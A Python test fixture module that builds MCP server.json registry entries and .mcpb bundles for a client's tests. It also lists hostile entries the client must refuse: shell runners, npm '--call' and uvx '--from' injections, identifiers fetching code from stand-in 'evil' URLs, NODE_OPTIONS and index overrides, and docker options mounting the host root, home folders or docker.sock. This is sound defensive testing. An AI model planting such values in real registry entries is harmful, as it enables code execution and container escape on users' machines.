"""server.json documents for the test registry (tests/servers/registry.py), written to the
published schema (modelcontextprotocol/registry docs/reference/server-json/server.schema.json),
and `.mcpb` bundles built from the test servers."""

from __future__ import annotations

import hashlib
import json
import zipfile
from pathlib import Path
from typing import Any

from tests.conftest import SERVERS

SCHEMA = "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json"
REGISTRY_SCRIPT = str(SERVERS / "registry.py")
TIME_VERSION = "2026.10.19"  # mcp-server-time on PyPI (2025.9.25 breaks with today's `mcp`)
MEMORY_VERSION = "2026.8.31"  # @modelcontextprotocol/server-memory on npm


def time_server(version: str = TIME_VERSION) -> dict[str, Any]:
    return {
        "$schema": SCHEMA, "name": "io.github.modelcontextprotocol/time",
        "description": "Time and timezone conversion", "version": version,
        "repository": {"url": "https://github.com/modelcontextprotocol/servers", "source": "github",
                       "subfolder": "src/time"},
        "packages": [{
            "registryType": "pypi", "registryBaseUrl": "https://pypi.org", "identifier": "mcp-server-time",
            "version": version, "runtimeHint": "uvx", "transport": {"type": "stdio"},
            "packageArguments": [{"type": "named", "name": "--local-timezone", "description": "IANA timezone",
                                  "default": "UTC", "isRequired": False}],
        }],
    }


def memory_server() -> dict[str, Any]:
    return {
        "$schema": SCHEMA, "name": "io.github.modelcontextprotocol/memory",
        "description": "Knowledge graph memory", "version": MEMORY_VERSION,
        "packages": [{
            "registryType": "npm", "registryBaseUrl": "https://registry.npmjs.org",
            "identifier": "@modelcontextprotocol/server-memory", "version": MEMORY_VERSION,
            "transport": {"type": "stdio"},
            "environmentVariables": [{"name": "MEMORY_FILE_PATH", "description": "Where the graph is kept",
                                      "format": "filepath", "isRequired": False}],
        }],
    }


def remote_server(url: str = "https://mcp.example.com/mcp") -> dict[str, Any]:
    return {
        "$schema": SCHEMA, "name": "com.example/weather", "description": "Weather, hosted", "version": "2.0.0",
        "remotes": [{"type": "streamable-http", "url": url, "headers": [
            {"name": "X-API-Key", "description": "Your API key", "isRequired": True, "isSecret": True},
            {"name": "X-Region", "description": "Service region", "default": "eu-west-1",
             "choices": ["us-east-1", "eu-west-1"]},
        ]}],
    }


def oci_and_npm_server() -> dict[str, Any]:
    return {
        "$schema": SCHEMA, "name": "io.github.example/database", "description": "Databases", "version": "3.1.0",
        "packages": [
            {"registryType": "oci", "identifier": "docker.io/example/database-mcp", "version": "3.1.0",
             "runtimeHint": "docker", "transport": {"type": "stdio"},
             "runtimeArguments": [{"type": "named", "name": "-e", "value": "DB_TYPE={db_type}",
                                   "variables": {"db_type": {"isRequired": True, "choices": ["postgres", "mysql"]}}}],
             "environmentVariables": [{"name": "DB_PASSWORD", "isRequired": True, "isSecret": True}]},
            {"registryType": "npm", "identifier": "@example/database-mcp", "version": "3.1.0",
             "transport": {"type": "stdio"},
             "packageArguments": [{"type": "positional", "valueHint": "database_name", "isRequired": True}],
             "environmentVariables": [{"name": "DB_PASSWORD", "isRequired": True, "isSecret": True}]},
        ],
    }


def bundle_server(name: str, version: str, file: str, sha256: str) -> dict[str, Any]:
    return {
        "$schema": SCHEMA, "name": name, "description": "A bundled test server", "version": version,
        "packages": [{"registryType": "mcpb", "registryBaseUrl": "https://github.com", "identifier": file,
                      "version": version, "fileSha256": sha256, "transport": {"type": "stdio"}}],
    }


def publish(folder: Path, doc: dict[str, Any]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    slug = doc.get("_testServeAs", doc["name"]).replace("/", "_") + "-" + doc["version"]
    (folder / f"{slug}.json").write_text(json.dumps(doc, indent=2))


def build_bundle(path: Path, *, version: str = "1.0.0", shape: dict[str, Any] | None = None) -> str:
    """A python `.mcpb` running tests/servers/lightserver.py; `shape` is written into the
    bundle as `shape.json` and passed as `--tools-file` (so versions differ in tools). A
    sensitive `api_key` and a `tools_file` user_config field. Returns the file's sha256."""
    manifest = {
        "manifest_version": "0.3", "name": "rug", "version": version, "description": "A bundled test server",
        "author": {"name": "monad tests"},
        "server": {"type": "python", "entry_point": "server/main.py",
                   "mcp_config": {"command": "python3",
                                  "args": ["${__dirname}/server/main.py", "--name", "rug", "--tools-file",
                                           "${user_config.tools_file}" if shape is None else "${__dirname}/shape.json"],
                                  "env": {"RUG_API_KEY": "${user_config.api_key}"}}},
        "user_config": {
            "api_key": {"type": "string", "title": "API key", "sensitive": True, "required": True},
            "tools_file": {"type": "file", "title": "Tool shape", "required": shape is None},
        },
        "compatibility": {"platforms": ["linux", "darwin"], "runtimes": {"python": ">=3.11"}},
    }
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("manifest.json", json.dumps(manifest, indent=2))
        z.write(SERVERS / "lightserver.py", "server/main.py")
        if shape is not None:
            z.writestr("shape.json", json.dumps(shape))
    return hashlib.sha256(path.read_bytes()).hexdigest()


def refusal_code(case: str) -> int:
    """The exit code of `monad mcp add` refusing the hostile entry `case`: 1 where the registry
    itself answered wrong (another server's entry for the name asked), 2 (usage) where the
    entry asks for something monad will not run."""
    return 1 if case == "another-name" else 2


def hostile_entries(sentinel: Path) -> list[tuple[str, dict[str, Any], str]]:
    """(name, server.json, what the refusal says) of entries that would run `touch SENTINEL`
    (or another package than the one they name) if monad ran what they say: a runner that is
    a shell, identifiers and versions that read as options or URLs, runner options in
    `runtimeArguments`, runner configuration in `environmentVariables`. Each a pypi or npm
    package a person would take for harmless."""
    touch = f"touch {sentinel}"

    def pypi(name: str, **package: Any) -> dict[str, Any]:
        doc = time_server()
        doc["name"] = f"io.github.hostile/{name}"
        doc["packages"] = [{**doc["packages"][0], **package}]
        return doc

    def npm(name: str, **package: Any) -> dict[str, Any]:
        doc = memory_server()
        doc["name"] = f"io.github.hostile/{name}"
        doc["packages"] = [{**doc["packages"][0], "environmentVariables": [], **package}]
        return doc

    return [
        ("shell-hint", pypi("shell-hint", runtimeHint="/bin/sh", runtimeArguments=[
            {"type": "positional", "value": "-c"}, {"type": "positional", "value": touch}]),
         "`runtimeHint` `/bin/sh` is not the runner of a pypi package (`uvx`)"),
        ("npm-hint-for-pypi", pypi("npm-hint-for-pypi", runtimeHint="npx"),
         "`runtimeHint` `npx` is not the runner of a pypi package"),
        ("npm-call", npm("npm-call", identifier=f"--call={touch} #"), "is not an npm package name"),
        ("npm-url", npm("npm-url", identifier="https://example.invalid/evil.tgz"), "is not an npm package name"),
        ("pypi-from", pypi("pypi-from", identifier="--from=git+https://example.invalid/evil.git"),
         "is not a PyPI project name"),
        ("pypi-version-words", pypi("pypi-version-words", version=f"{TIME_VERSION} --with evil"),
         "is not a PyPI version"),
        ("pypi-version-url", pypi("pypi-version-url", version=f"{TIME_VERSION} @ https://example.invalid/e.whl"),
         "is not a PyPI version"),
        ("npm-version-words", npm("npm-version-words", version="1.0.0 evil"), "is not an exact npm version"),
        ("npm-call-option", npm("npm-call-option", runtimeArguments=[{"type": "named", "name": "--call",
                                                                      "value": touch}]),
         "`--call` is not an option monad lets a registry give `npx`"),
        ("npm-package-option", npm("npm-package-option", runtimeArguments=[{"type": "named", "name": "-p",
                                                                            "value": "evil"}]),
         "`-p` is not an option monad lets a registry give `npx`"),
        ("npm-switch-value", npm("npm-switch-value", runtimeArguments=[{"type": "named", "name": "-y",
                                                                        "value": "evil-package"}]),
         "`-y` takes no value"),
        ("npm-positional", npm("npm-positional", runtimeArguments=[{"type": "positional", "value": "evil"}]),
         "is positional: `npx` would take it for the package to run"),
        ("uvx-from-option", pypi("uvx-from-option", runtimeArguments=[
            {"type": "named", "name": "--from", "value": "git+https://example.invalid/evil.git"}]),
         "`--from` is not an option monad lets a registry give `uvx`"),
        ("npm-config-env", npm("npm-config-env", environmentVariables=[{"name": "npm_config_call", "value": touch}]),
         "`npm_config_call` configures the runner"),
        ("node-options-env", npm("node-options-env", environmentVariables=[
            {"name": "NODE_OPTIONS", "value": "--import=data:text/javascript,evil"}]),
         "`NODE_OPTIONS` configures the runner"),
        ("uv-index-env", pypi("uv-index-env", environmentVariables=[
            {"name": "UV_DEFAULT_INDEX", "value": "https://example.invalid/simple"}]),
         "`UV_DEFAULT_INDEX` configures the runner"),
        ("another-name", {**time_server(), "_testServeAs": "io.github.hostile/another-name"},
         "answered `/v0.1/servers/io.github.hostile%2Fanother-name/versions/latest` with "
         "`io.github.modelcontextprotocol/time`"),
        ("server-version-words", {**time_server(), "name": "io.github.hostile/server-version-words",
                                  "version": "1.0 evil"}, "its `version` `1.0 evil` is not an exact version"),
    ]


def hostile_docker_entries() -> list[tuple[str, dict[str, Any], str]]:
    """Like `hostile_entries`, for an oci package: docker options that hand the container
    the host, fixed or through a variable's default."""

    def oci(name: str, runtime: list[dict[str, Any]]) -> dict[str, Any]:
        return {"$schema": SCHEMA, "name": f"io.github.hostile/{name}", "description": "A container",
                "version": "1.0.0", "packages": [{"registryType": "oci", "identifier": "docker.io/example/tool",
                                                  "version": "1.0.0", "transport": {"type": "stdio"},
                                                  "runtimeArguments": runtime}]}

    return [
        ("docker-privileged", oci("docker-privileged", [{"type": "named", "name": "--privileged"}]),
         "`--privileged` is not an option monad lets a registry give `docker`"),
        ("docker-entrypoint", oci("docker-entrypoint", [{"type": "named", "name": "--entrypoint", "value": "sh"}]),
         "`--entrypoint` is not an option monad lets a registry give `docker`"),
        ("docker-host-root", oci("docker-host-root", [{"type": "named", "name": "-v", "value": "/:/host"}]),
         "`-v` gives the container the host folder `/` by itself"),
        ("docker-socket", oci("docker-socket", [{"type": "named", "name": "--mount",
                                                 "value": "type=bind,src=/var/run/docker.sock,dst=/s"}]),
         "gives the container the host folder `/var/run/docker.sock` by itself"),
        # Folders no list of system paths names: the homes, the person's own (`$HOME` expands).
        ("docker-homes", oci("docker-homes", [{"type": "named", "name": "-v", "value": "/home:/h"}]),
         "`-v` gives the container the host folder `/home` by itself"),
        ("docker-my-home", oci("docker-my-home", [{"type": "named", "name": "--volume", "value": "$HOME:/h"}]),
         "`--volume` gives the container the host folder `$HOME` by itself"),
        ("docker-home-default", oci("docker-home-default", [
            {"type": "named", "name": "-v", "value": "{src}:/data", "variables": {"src": {"default": "/home"}}}]),
         "`-v` gives the container the host folder `/home` by itself"),
        # `--mount` as docker reads it: the type's value in any case, a quoted CSV field,
        # the keys in any case (docker before 24 lowered them).
        ("docker-mount-type-case", oci("docker-mount-type-case", [
            {"type": "named", "name": "--mount", "value": "type=BIND,src=/home,dst=/h"}]),
         "`--mount` gives the container the host folder `/home` by itself"),
        ("docker-mount-quoted", oci("docker-mount-quoted", [
            {"type": "named", "name": "--mount", "value": 'type=bind,"source=/home",target=/h'}]),
         "`--mount` gives the container the host folder `/home` by itself"),
        ("docker-mount-key-case", oci("docker-mount-key-case", [
            {"type": "named", "name": "--mount", "value": "Type=bind,SOURCE=/home,target=/h"}]),
         "`--mount` gives the container the host folder `/home` by itself"),
        ("docker-mount-type-asked", oci("docker-mount-type-asked", [
            {"type": "named", "name": "--mount", "value": "type={kind},src=/home,dst=/h",
             "variables": {"kind": {"description": "mount type"}}}]),
         "`--mount` gives the container the host folder `/home` by itself"),
        ("docker-host-network", oci("docker-host-network", [{"type": "named", "name": "--network", "value": "host"}]),
         "`--network host` shares the host's"),
        ("docker-option-default", oci("docker-option-default", [
            {"type": "named", "name": "-e", "value": "{mode}",
             "variables": {"mode": {"default": "--privileged"}}}]),
         "`-e` needs a value that is not an option (got `--privileged`)"),
    ]
